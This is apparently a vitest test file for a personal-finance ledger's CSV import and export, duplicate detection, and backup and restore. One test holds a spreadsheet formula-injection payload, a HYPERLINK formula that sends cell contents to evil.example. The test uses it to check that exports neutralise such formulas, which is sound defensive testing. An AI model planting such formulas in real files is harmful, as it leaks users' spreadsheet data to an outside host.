import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LevelHealth } from '../db/leveldb-storage/health';
import { registerUser, startTestServer, type TestServer } from '../test-support/test-server';
import { seedSyntheticRecords } from '../test-support/synthetic-records';
import { ImportKeyIndex, importKeyIndex } from './import-keys';
import type { RecordDoc } from './schema';
import { ledgerErrors } from './errors';
import { expectRefusal } from '../test-support/refusal';

type User = Awaited<ReturnType<typeof registerUser>>;

let t: TestServer;
beforeAll(async () => {
  t = await startTestServer();
});
afterAll(() => t.close());

async function setup(): Promise<{ u: User; cash: string; bank: string }> {
  const u = await registerUser(t);
  const cash = (await t.api('asset.create', { name: 'Cash', type: 'cash', currency: 'USD', balance: 100 }, u.token)).data.id;
  const bank = (await t.api('asset.create', { name: 'Bank', type: 'debit_card', currency: 'USD', balance: 1000 }, u.token)).data.id;
  return { u, cash, bank };
}

const CSV = [
  'date,type,amount,asset,toAsset,fee,category,tags,description',
  '2026-01-05,expense,12.50,Cash,,,Food,lunch;work,"Noodles, extra spicy"',
  '2026-01-05,expense,12.50,Cash,,,Food,lunch;work,"Noodles, extra spicy"',
  '2026-01-06 18:30,income,2000,bank,,,Salary,,January pay',
  '2026-01-07T09:00:00+08:00,transfer,50,Bank,Cash,0.5,,,ATM',
  '2026-01-08,expense,1.234,Cash,,,Food,,too many decimals',
  'not-a-date,expense,5,Cash,,,Food,,bad date',
  '2026-01-09,expense,5,Piggy,,,Food,,unknown asset',
  '2026-01-09,refund,5,Cash,,,Food,,bad type',
  '2026-01-10,expense,7,Cash,,,Pets,,unknown category',
].join('\n');

describe('CSV import', () => {
  it('previews in a dry run without writing, then imports, and a second import creates nothing', async () => {
    const { u, cash, bank } = await setup();
    const preview = await t.api('accounting.importCsv', { csv: CSV, dryRun: true, timeZone: 'UTC' }, u.token);
    expect(preview.code).toBe(200);
    expect(preview.data.summary).toMatchObject({ rows: 9, create: 4, duplicate: 0, invalid: 5 });
    expect(preview.data.invalid.map((r: { line: number }) => r.line)).toEqual([6, 7, 8, 9, 10]);
    expect(preview.data.invalid[0].errors.join()).toMatch(/more decimals/);
    expect(preview.data.invalid[1].errors.join()).toMatch(/not a date/);
    expect(preview.data.invalid[4].errors.join()).toMatch(/category "Pets" does not exist/);
    expect(preview.data.create[0]).toMatchObject({ line: 2, amount: 12.5, category: 'Food', tags: ['lunch', 'work'], description: 'Noodles, extra spicy' });
    expect(preview.data.create[3]).toMatchObject({ type: 'transfer', fee: 0.5, date: Date.UTC(2026, 0, 7, 1) });
    expect((await t.api('accounting.query', {}, u.token)).data.total).toBe(0);

    const real = await t.api('accounting.importCsv', { csv: CSV, dryRun: false, timeZone: 'UTC', createMissingCategories: true }, u.token);
    expect(real.data.summary).toMatchObject({ create: 5, invalid: 4, newCategories: [{ type: 'expense', name: 'Pets' }] });
    expect((await t.api('accounting.query', {}, u.token)).data.total).toBe(5);
    expect((await t.api('asset.detail', { id: cash }, u.token)).data.balance).toBe(100 - 25 + 50 - 7);
    expect((await t.api('asset.detail', { id: bank }, u.token)).data.balance).toBe(1000 + 2000 - 50.5);

    const again = await t.api('accounting.importCsv', { csv: CSV, dryRun: false, timeZone: 'UTC', createMissingCategories: true }, u.token);
    expect(again.data.summary).toMatchObject({ create: 0, duplicate: 5, invalid: 4 });
    expect((await t.api('accounting.query', {}, u.token)).data.total).toBe(5);
  });

  it('refuses unreadable files and missing columns', async () => {
    const { u } = await setup();
    expect((await t.api('accounting.importCsv', { csv: 'date,amount\n2026-01-01,5', dryRun: true }, u.token)).message).toMatch(/needs a "type" column/);
    expectRefusal(await t.api('accounting.importCsv', { csv: 'date,type,amount,asset\n"unterminated', dryRun: true }, u.token), ledgerErrors.rows.csvUnreadable);
    expectRefusal(await t.api('accounting.importCsv', { csv: CSV, dryRun: true, timeZone: 'Nowhere/City' }, u.token), ledgerErrors.rows.unknownTimeZone);
  });
});

/** `n` different expense rows on Cash (the same n give the same file). */
function rowsCsv(n: number, first = 0): string {
  const lines = ['date,type,amount,asset,category,description'];
  for (let i = first; i < first + n; i++) {
    lines.push(`2026-02-${String(1 + (i % 28)).padStart(2, '0')} 10:${String(i % 60).padStart(2, '0')},expense,${(1 + i / 100).toFixed(2)},Cash,Food,row ${i}`);
  }
  return lines.join('\n');
}

/** Counts what LevelDB hands out: documents fetched by getMany and entries yielded by iterators. */
function countReads(level: LevelHealth['level']) {
  const counts = { docsFetched: 0, entriesIterated: 0 };
  const getMany = level.getMany.bind(level);
  const iterator = level.iterator.bind(level);
  (level as any).getMany = (keys: unknown[], options?: unknown) => {
    counts.docsFetched += keys.length;
    return getMany(keys as any, options as any);
  };
  (level as any).iterator = (options?: unknown) => {
    const it = iterator(options as any);
    const nextv = it.nextv.bind(it);
    (it as any).nextv = async (size: number, o?: unknown) => {
      const chunk = await nextv(size, o as any);
      counts.entriesIterated += chunk.length;
      return chunk;
    };
    return it;
  };
  return {
    get total() {
      return counts.docsFetched + counts.entriesIterated;
    },
    reset() {
      counts.docsFetched = counts.entriesIterated = 0;
    },
    restore() {
      (level as any).getMany = getMany;
      (level as any).iterator = iterator;
    },
  };
}

describe('CSV import: the duplicate check (issue 15)', () => {
  it('re-importing a file reads in proportion to the file, not to the file times its batches, and creates nothing', async () => {
    const { u, cash } = await setup();
    // A ledger that also has typed-in records (no importKey): they must not be read either.
    await seedSyntheticRecords(t.server.app.db.collection<RecordDoc>('records'), { userId: u.id, assets: [cash], count: 2000 });
    const rows = 1200; // 6 batches of the former 200-key duplicate query
    const csv = rowsCsv(rows);
    const first = await t.api('accounting.importCsv', { csv, dryRun: false, timeZone: 'UTC' }, u.token);
    expect(first.data.summary).toMatchObject({ rows, create: rows, duplicate: 0, invalid: 0 });

    // As after a restart or an idle period, nothing is in memory: the check loads the user's
    // imported rows once.
    importKeyIndex(t.server.app, t.server.app.services.ledger).stop();
    const reads = countReads(t.server.app.db.health.level);
    try {
      const again = await t.api('accounting.importCsv', { csv, dryRun: false, timeZone: 'UTC' }, u.token);
      expect(again.data.summary).toMatchObject({ rows, create: 0, duplicate: rows, invalid: 0 });
      // One index walk over the imported records plus their documents: 2 × rows (+ the session,
      // the categories). Before: every 200-row batch walked them all (≈ 14,000).
      expect(reads.total).toBeLessThanOrEqual(2 * rows + 100);
      reads.reset();
      const preview = await t.api('accounting.importCsv', { csv, dryRun: true, timeZone: 'UTC' }, u.token);
      expect(preview.data.summary).toMatchObject({ rows, create: 0, duplicate: rows, invalid: 0 });
      expect(reads.total).toBeLessThanOrEqual(100); // the index is in memory now
    } finally {
      reads.restore();
    }
    expect((await t.api('accounting.query', { pageSize: 1 }, u.token)).data.total).toBe(2000 + rows);
  });

  it('follows every write: deletions, records arriving by sync, its own inserts; a preview says what the import does', async () => {
    const { u } = await setup();
    const records = t.server.app.db.collection<RecordDoc>('records');
    const first = await t.api('accounting.importCsv', { csv: rowsCsv(5), dryRun: false, timeZone: 'UTC' }, u.token);
    expect(first.data.summary).toMatchObject({ create: 5, duplicate: 0 });

    // Deleted through the API: that row is new again.
    const imported = await records.find({ selector: { userId: u.id } }).exec();
    expect(imported.every((d) => d.importKey !== '')).toBe(true);
    const [deleted] = imported;
    if (!deleted) throw new Error('nothing imported');
    expect((await t.api('accounting.delete', { id: deleted.id }, u.token)).code).toBe(200);
    const preview = await t.api('accounting.importCsv', { csv: rowsCsv(5), dryRun: true, timeZone: 'UTC' }, u.token);
    expect(preview.data.summary).toMatchObject({ create: 1, duplicate: 4 });
    expect(preview.data.create[0].description).toBe(deleted.description);
    const back = await t.api('accounting.importCsv', { csv: rowsCsv(5), dryRun: false, timeZone: 'UTC' }, u.token);
    expect(back.data.summary).toMatchObject({ create: 1, duplicate: 4 });

    // A row deleted on another device and imported there again arrives by sync (written straight
    // into the collection, with another id): still a duplicate here.
    const victim = (await records.findOne({ selector: { userId: u.id, description: 'row 3' } }).exec())!;
    const copy = { ...(victim.toJSON() as RecordDoc), id: `${victim.id.slice(0, 9)}SYNCEDCOPY` };
    await victim.remove();
    await records.insert(copy);
    // A new row (row 5) is new in a preview and in the import, then a duplicate.
    for (const [dryRun, create] of [
      [true, 1],
      [false, 1],
      [true, 0],
      [false, 0],
    ] as const) {
      const answer = await t.api('accounting.importCsv', { csv: rowsCsv(6), dryRun, timeZone: 'UTC' }, u.token);
      expect(answer.data.summary).toMatchObject({ rows: 6, create, duplicate: 6 - create });
    }
    expect((await t.api('accounting.query', {}, u.token)).data.total).toBe(6);
  });

  it("keeps a user's keys in memory only while they import", async () => {
    const { u } = await setup();
    await t.api('accounting.importCsv', { csv: rowsCsv(3), dryRun: false, timeZone: 'UTC' }, u.token);
    const index = new ImportKeyIndex(t.server.app.db.collection<RecordDoc>('records'), 1);
    const keys = await index.forUser(u.id);
    expect(keys.counts.size).toBe(3);
    expect(index.loadedUsers).toBe(1);
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(index.loadedUsers).toBe(0);
    expect((await index.forUser(u.id)).counts.size).toBe(3);
    index.stop();
    expect(index.loadedUsers).toBe(0);
  });
});

describe('CSV export', () => {
  it('exports exact amounts and imports back into the same ledger as duplicates only', async () => {
    const { u, cash, bank } = await setup();
    await t.api(
      'accounting.create',
      { type: 'expense', amount: 0.1, asset: cash, category: 'Food', description: 'gum, "mint"', tags: ['a', 'b'], date: Date.UTC(2026, 1, 1) },
      u.token,
    );
    await t.api('accounting.create', { type: 'transfer', amount: 20, fromAsset: bank, toAsset: cash, fee: 1.5, date: Date.UTC(2026, 1, 2) }, u.token);
    const exported = await t.api('accounting.exportCsv', {}, u.token);
    expect(exported.data.count).toBe(2);
    const lines = (exported.data.csv as string).trim().split('\n');
    expect(lines[0]).toBe('id,date,type,amount,currency,asset,toAsset,toAmount,fee,category,tags,description');
    expect(lines[1]).toContain(',2026-02-01T00:00:00.000Z,expense,0.10,USD,Cash,,,,Food,a;b,"gum, ""mint"""');
    expect(lines[2]).toContain('transfer,20.00,USD,Bank,Cash,,1.50,,,');
    const back = await t.api('accounting.importCsv', { csv: exported.data.csv, dryRun: true }, u.token);
    expect(back.data.summary).toMatchObject({ rows: 2, create: 0, duplicate: 2, invalid: 0 });
  });
});

describe('formula-looking text in CSV', () => {
  it('is written so spreadsheets show it as text (leading apostrophe), and reads back to the same text', async () => {
    const { u, cash } = await setup();
    await t.api('asset.update', { id: cash, name: '-Cash' }, u.token);
    const description = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await t.api('accounting.create', { type: 'expense', amount: 3, asset: cash, category: 'Food', description, tags: ['@home', 'x'], date: Date.UTC(2026, 1, 3) }, u.token);
    await t.api('accounting.create', { type: 'expense', amount: 4, asset: cash, category: 'Food', description: '+1 refill\tok', date: Date.UTC(2026, 1, 4) }, u.token);
    const csv = (await t.api('accounting.exportCsv', {}, u.token)).data.csv as string;
    const cells = csv
      .trim()
      .split('\n')
      .slice(1)
      .flatMap((line) => line.split(','));
    // No cell of the file starts with a formula character (quoted cells are checked inside their quotes).
    for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`,'-Cash,`);
    expect(csv).toContain(`'@home;x`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);

    // Into another account: the same text, not the apostrophe.
    const other = await registerUser(t);
    await t.api('asset.create', { name: '-Cash', type: 'cash', currency: 'USD', balance: 100 }, other.token);
    const imported = await t.api('accounting.importCsv', { csv, dryRun: false }, other.token);
    expect(imported.data.summary).toMatchObject({ create: 2, invalid: 0 });
    const list = (await t.api('accounting.query', { pageSize: 10 }, other.token)).data.list as Array<{ description: string; tags: string[]; assetName?: string }>;
    expect(list.map((r) => r.description).sort()).toEqual(['+1 refill\tok', description].sort());
    expect(list.find((r) => r.description === description)!.tags).toEqual(['@home', 'x']);
  });
});

describe('backup and restore', () => {
  it('restores a backup into an empty account exactly, refuses a non-empty one, and appends idempotently', async () => {
    const { u, cash, bank } = await setup();
    const usd = cash;
    const eur = (await t.api('asset.create', { name: 'Euro', type: 'savings', currency: 'EUR', balance: 10 }, u.token)).data.id;
    await t.api('category.create', { type: 'expense', name: 'Pets' }, u.token);
    await t.api('currency.setRate', { from: 'EUR', to: 'USD', rate: '1.0825', date: 1000 }, u.token);
    await t.api('currency.setBase', { currency: 'USD' }, u.token);
    await t.api('accounting.create', { type: 'expense', amount: 3.33, asset: usd, category: 'Pets', tags: ['cat'] }, u.token);
    await t.api('accounting.create', { type: 'transfer', amount: 100, fromAsset: bank, toAsset: eur, toAmount: 92.37 }, u.token);
    await t.api('accounting.create', { type: 'income', amount: 5, asset: eur, category: 'Gift' }, u.token);
    const snapshot = await t.api('ledger.backup', {}, u.token);
    expect(snapshot.data).toMatchObject({ format: 'pennypost-ledger-backup', version: 1, baseCurrency: 'USD' });
    expect(snapshot.data.records).toHaveLength(3);
    expect(JSON.stringify(snapshot.data)).not.toContain(u.id);

    expectRefusal(await t.api('ledger.restore', { backup: snapshot.data }, u.token), ledgerErrors.rows.restoreNeedsEmptyLedger);

    const fresh = await registerUser(t);
    const { records, ...head } = snapshot.data;
    const first = await t.api('ledger.restore', { backup: { ...head, records: records.slice(0, 1) } }, fresh.token);
    expect(first.data.restored).toMatchObject({ assets: 3, records: 1 });
    const rest = await t.api('ledger.restore', { backup: { format: head.format, version: 1, records: records.slice(1) }, append: true }, fresh.token);
    expect(rest.data.restored.records).toBe(2);
    const repeat = await t.api('ledger.restore', { backup: { format: head.format, version: 1, records }, append: true }, fresh.token);
    expect(repeat.code).toBe(200);

    const shape = async (token: string) => {
      const assets = (await t.api('asset.query', {}, token)).data.list.map((a: Record<string, unknown>) => [a.name, a.balance, a.currency, a.type, a.isDefault]);
      const recs = (await t.api('accounting.query', {}, token)).data.list.map((r: Record<string, unknown>) => [r.type, r.amount, r.assetName, r.category, r.tags, r.toAmount]);
      const cats = (await t.api('category.list', {}, token)).data.list.map((c: Record<string, unknown>) => `${String(c.type)}:${String(c.name)}`).sort();
      const rates = (await t.api('currency.listRates', {}, token)).data.list.map((r: Record<string, unknown>) => [r.from, r.to, r.rate, r.date]);
      const worth = (await t.api('stats.getAssetStats', {}, token)).data.netWorth;
      return { assets, recs, cats, rates, worth };
    };
    expect(await shape(fresh.token)).toEqual(await shape(u.token));
    expect((await t.api('currency.get', {}, fresh.token)).data).toEqual({ baseCurrency: 'USD', explicit: true });

    const garbage = await t.api('ledger.restore', { backup: { format: 'other', version: 1 } }, (await registerUser(t)).token);
    expectRefusal(garbage, ledgerErrors.rows.invalidBackup);
    const broken = await t.api(
      'ledger.restore',
      { backup: { format: 'pennypost-ledger-backup', version: 1, records: [{ id: 'x', asset: 'missing' }] } },
      (await registerUser(t)).token,
    );
    expectRefusal(broken, ledgerErrors.rows.invalidBackup);
  });
});
